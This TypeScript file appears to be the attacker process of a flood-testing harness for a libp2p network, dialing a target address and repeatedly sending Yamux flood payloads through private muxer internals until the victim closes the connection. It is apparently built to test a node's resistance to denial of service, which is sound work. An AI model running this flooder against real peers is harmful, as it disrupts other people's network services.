/** The process of a flood's attacker. Its argument is an `Order` as JSON. It floods until its parent ends it. */
import { once } from 'node:events'
import { setImmediate as nextTurn } from 'node:timers/promises'

import type { Libp2p, MultiaddrConnection } from '@libp2p/interface'
import { multiaddr } from '@multiformats/multiaddr'

import { attackingPeer } from '../network.ts'
import { FLOODS, type Flood } from './floods.ts'

export interface Order {
  flood: string
  address: string
}

/** What the attacker has sent so far. */
export interface Sent {
  messages: number
  bytes: number
  connections: number
}

/** The private parts of libp2p's connection and of Yamux that the attacker uses. */
interface Muxer {
  maConn: MultiaddrConnection
  onData: (bytes: Uint8Array) => void
}

const { flood: name, address } = JSON.parse(process.argv[2] ?? '') as Order
const sent: Sent = { messages: 0, bytes: 0, connections: 0 }
process.on('disconnect', () => process.exit(0))
process.on('message', () => process.send?.(sent))
// An attacker does not care which of its connections fail.
process.on('unhandledRejection', () => undefined)

/** Floods one connection until the victim closes it. */
async function play(flood: Flood, peer: Libp2p): Promise<void> {
  const connection = await peer.dial(multiaddr(address))
  sent.connections++
  const { muxer } = connection as unknown as { muxer: Muxer }
  const { maConn } = muxer
  muxer.onData = () => undefined
  let stream = 100_001
  const newStream = (): number => (stream += 2)
  const send = async (bytes: Uint8Array): Promise<void> => {
    sent.bytes += bytes.byteLength
    if (!maConn.send(bytes)) await Promise.race([once(maConn as never, 'drain'), once(maConn as never, 'close')])
  }
  if (flood.first !== undefined) await send(flood.first())
  if (flood.deaf === true) maConn.pause()
  while (connection.status === 'open' && maConn.status === 'open') {
    const piece = flood.next(newStream, peer.peerId.toMultihash().bytes)
    if (flood.dribble === true) for (const byte of piece) await send(Uint8Array.of(byte))
    else await send(piece)
    sent.messages += flood.messages
    await nextTurn()
  }
}

process.send?.('ready')
for (;;) {
  const peer = await attackingPeer({ addresses: { listen: [] }, connectionMonitor: { enabled: false } })
  await play(FLOODS[name]!, peer).catch(() => undefined)
  await Promise.resolve(peer.stop()).catch(() => undefined)
}
